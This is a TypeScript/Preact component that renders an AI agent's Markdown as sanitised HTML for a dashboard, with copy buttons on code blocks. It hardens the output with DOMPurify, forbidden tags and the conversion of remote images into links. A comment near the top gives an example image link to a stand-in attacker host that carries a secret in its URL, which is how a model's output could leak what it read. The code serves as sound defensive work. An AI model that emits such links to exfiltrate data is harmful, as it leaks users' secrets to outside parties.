import DOMPurify from 'dompurify';
import { Marked } from 'marked';
import { useLayoutEffect, useMemo, useRef } from 'preact/hooks';

const marked = new Marked({ gfm: true, breaks: false, async: false });

/** Whether an image at `src` loads without asking another site for anything: a `data:` URL or the dashboard's own origin. */
function isLocalImage(src: string): boolean {
  try {
    const url = new URL(src, document.baseURI);
    return url.protocol === 'data:' || url.origin === location.origin;
  } catch {
    return false;
  }
}

/** A link that opens in a new tab that cannot reach back into the dashboard. */
function openInNewTab(link: Element): void {
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', 'noopener noreferrer');
}

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A' && node.hasAttribute('href')) openInNewTab(node);
  // A remote image would be fetched as soon as the chat is opened, so a model could leak what it
  // read in the image's URL (`![x](https://evil.example/?d=SECRET)`). It becomes a link instead:
  // the reader sees where it points and fetches it only by clicking (the CSP blocks it too).
  if (node.tagName === 'IMG' && !isLocalImage(node.getAttribute('src') ?? '')) {
    const src = node.getAttribute('src') ?? '';
    const link = document.createElement('a');
    link.textContent = node.getAttribute('alt') || src || 'image';
    if (src !== '') {
      link.setAttribute('href', src);
      openInNewTab(link);
    }
    node.replaceWith(link);
  }
});

/**
 * An agent's Markdown as safe HTML: rendered by `marked` (GitHub's dialect: tables, fenced code),
 * then sanitised by DOMPurify, so nothing the model writes (a `<script>`, an `onerror`, a
 * `javascript:` link, a form) runs or reaches the page, and nothing it writes is fetched from
 * another site: remote images become links, media, `srcset` and `background` are dropped.
 */
function renderMarkdown(text: string): string {
  const html = marked.parse(text) as string;
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'audio', 'video', 'source', 'track'],
    FORBID_ATTR: ['style', 'srcset', 'background', 'poster'],
  });
}

/** Adds a copy button to each code block under `root` that has none. */
function addCopyButtons(root: HTMLElement): void {
  for (const pre of root.querySelectorAll('pre')) {
    if (pre.parentElement?.classList.contains('code-block') === true) continue;
    // A block wider than the bubble scrolls: it takes the focus, so a keyboard can scroll it too.
    pre.tabIndex = 0;
    pre.setAttribute('aria-label', 'Code');
    const wrapper = document.createElement('div');
    wrapper.className = 'code-block';
    pre.replaceWith(wrapper);
    wrapper.append(pre);
    const button = document.createElement('button');
    button.type = 'button';
    button.className = 'copy-code';
    button.textContent = 'Copy';
    button.setAttribute('aria-label', 'Copy code');
    wrapper.append(button);
  }
}

/** Copies the code block of a clicked copy button, and says so on the button for a moment. */
function onCopy(event: MouseEvent): void {
  const target = event.target instanceof Element ? event.target.closest('button.copy-code') : null;
  if (!(target instanceof HTMLButtonElement)) return;
  const code = target.parentElement?.querySelector('pre')?.textContent ?? '';
  navigator.clipboard.writeText(code).then(
    () => {
      target.textContent = 'Copied';
      setTimeout(() => (target.textContent = 'Copy'), 1500);
    },
    () => {
      target.textContent = 'Copy failed';
    },
  );
}

/** Markdown rendered as sanitised HTML, with a copy button on each code block. */
export function Markdown({ text, class: className }: { text: string; class?: string }) {
  const html = useMemo(() => renderMarkdown(text), [text]);
  const root = useRef<HTMLDivElement>(null);
  useLayoutEffect(() => {
    if (root.current !== null) addCopyButtons(root.current);
  }, [html]);
  return <div ref={root} class={`markdown${className === undefined ? '' : ` ${className}`}`} onClick={onCopy} dangerouslySetInnerHTML={{ __html: html }} />;
}
